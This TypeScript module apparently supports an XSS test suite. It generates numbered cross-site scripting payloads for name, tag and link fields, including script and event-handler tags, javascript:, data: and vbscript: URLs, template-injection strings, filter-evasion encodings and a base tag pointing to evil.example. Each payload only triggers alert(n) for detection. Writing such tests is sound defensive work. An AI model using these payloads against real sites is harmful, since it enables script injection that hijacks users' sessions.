/** A statement that reports when it runs, through `reportRun` in browser-watch.ts. */
export const script = (n: number): string => `alert(${n})`;

/** XSS payloads that work anywhere in a text, alone or combined. All fit into a name field. */
const whole: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</title></textarea><script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror="${run}">`,
  (run) => `' autofocus onfocus='${run}' x='`,
  (run) => `" onmouseover="${run}" style="position:fixed;inset:0`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `[x](javascript:${run})`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `<base href="https://evil.example/">`.replace('>', ` data-x="${run}">`),
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}#{${run}}<%= ${run} %>`,
  (run) => `<!--<script>--><img src=x onerror=${run}>`,
  (run) => `]]><img src=x onerror=${run}>`,
  (run) => `\u2028${run}\u2029//`,
  (run) => `\u202e<img src=x onerror=${run}>`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `","@type":"x","x":"</script><svg onload=${run}>`,
];
/** Payloads that only work at the beginning of a field. */
const prefixes: ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVa\tscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `vbscript:${run}`,
];
/** Payloads for fields that are rendered as links. */
const links: ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JAVASCRIPT:${run}//http://x.example/`,
  (run) => `javascript:${run};a="://http"`,
  (run) => `javascript://x.example/%0a${run}`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `vbscript:${run}`,
  (run) => `blob:https://x.example/${run}`,
  (run) => `http:javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `https://x.example/"onmouseover="${run}`,
  (run) => `https://x.example/'><script>${run}</script>`,
  (run) => `https://x.example/?a=</script><script>${run}</script>`,
  (run) => `https://x.example/#javascript:${run}`,
];

let count = 0;
const numbered = (makers: typeof whole): string[] => makers.map((make) => make(script(++count)));

export const payloads: readonly string[] = numbered(whole);
const starts = numbered(prefixes);
export const hostileLinks: readonly string[] = numbered(links);

/** Packs all payloads into as few texts of at most `maxLength` characters as possible, each starting with a prefix payload. */
export const textsOf = (maxLength: number): string[] => {
  const texts: string[] = [];
  let text = starts[0] ?? '';
  for (const payload of payloads) {
    if (text.length + 1 + payload.length <= maxLength) text += ` ${payload}`;
    else {
      texts.push(text);
      text = `${starts[texts.length % starts.length]} ${payload}`;
    }
  }
  return [...texts, text];
};

/** Payloads short enough for a tag. */
export const tags: readonly string[] = payloads.filter(({ length }) => length <= 60).slice(0, 50);
